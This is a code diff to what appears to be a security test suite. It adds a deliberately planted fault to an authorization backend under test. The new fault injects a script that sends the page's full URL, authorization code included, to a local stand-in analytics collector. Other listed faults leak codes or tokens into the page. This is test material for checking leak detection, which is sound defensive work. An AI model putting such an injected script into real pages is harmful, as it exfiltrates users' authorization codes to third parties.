@@ -14,11 +14,12 @@ from backend_under_test.authorizations import Authorizations
 from backend_under_test.callback import Callback, CallbackQuery
 from backend_under_test.connections import Connections
 from backend_under_test.events import Value
-from backend_under_test.mutations.edits import Change, parts
+from backend_under_test.mutations.edits import Change, parts, script
 from backend_under_test.mutations.fault import Fault
 from backend_under_test.outcome import Outcome
 from backend_under_test.pages import Page
 
+ANALYTICS = "http://127.0.0.1:44444/collect"
 Leak = Callable[["LeakingCallback", CallbackQuery], str]
 
 
@@ -194,6 +195,13 @@ FAULTS = (
         ("SEC-08",),
         parts(authorizations=AsksReferer),
         ("referer_of_somebody_else",),
+    ),
+    Fault(
+        "page_tells_analytics",
+        "the page sends its address, with the code in it, to somebody who counts visits",
+        ("SEC-08",),
+        script(f"new Image().src = '{ANALYTICS}?page=' + encodeURIComponent(location.href)"),
+        ("connect_happy_path",),
     ),
     leaking("code_in_page", "the code stands in the page", _code),
     leaking("token_in_page", "the access token stands in the page", _token),
